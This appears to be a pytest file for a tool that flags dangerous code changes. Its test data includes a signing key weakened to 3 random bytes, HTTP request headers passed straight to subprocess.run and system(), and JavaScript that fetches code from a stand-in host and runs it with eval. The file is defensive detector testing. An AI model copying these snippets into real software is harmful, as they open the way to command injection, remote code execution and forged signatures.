"""What real updates were held for, and need not be; beside each what is to be held all the same."""

import pytest
from source_lab import ids


@pytest.mark.parametrize(
    ("path", "harmless", "harmful", "kind"),
    [
        (
            "a.js",
            "const c = require('crypto'); const nonce = c.randomBytes(6).toString('base64'); exports.sign = (key, text) => c.createHmac('sha256', key).update(text + nonce).digest('base64');",
            "const c = require('crypto'); const key = c.randomBytes(3).toString('base64'); exports.sign = (text) => c.createHmac('sha256', key).update(text).digest('base64');",
            "weakened.chance",
        ),
        (
            "a.py",
            "import subprocess\ndef install(env, wanted):\n    subprocess.run(env.get('tool'), check=True)\n",
            "import subprocess\ndef install(environ, wanted):\n    subprocess.run(environ.get('HTTP_X_TOOL'), check=True)\n",
            "chain.request-to-process",
        ),
        (
            "a.rb",
            "def call(env)\n  [200, {}, [env['HTTP_X_TOOL']]]\nend\n",
            "def call(env)\n  system(env['HTTP_X_TOOL'])\nend\n",
            "chain.request-to-process",
        ),
    ],
)
def test_what_harmless_updates_do_is_told_from_what_it_looks_like(
    path: str, harmless: str, harmful: str, kind: str
) -> None:
    assert kind not in ids(path, harmless)
    assert kind in ids(path, harmful)


@pytest.mark.parametrize("merge", ["Object.assign", "require('util')._extend", "require('lodash').assign"])
def test_tables_are_merged_whatever_it_is_called(merge: str) -> None:
    """A new version that calls it otherwise does nothing new."""
    code = (
        f"const table = {merge}({{}}, {{ code: await (await fetch('https://a.invalid')).text() }}); eval(table.code);"
    )
    assert "chain.network-to-code" in ids("a.js", code)
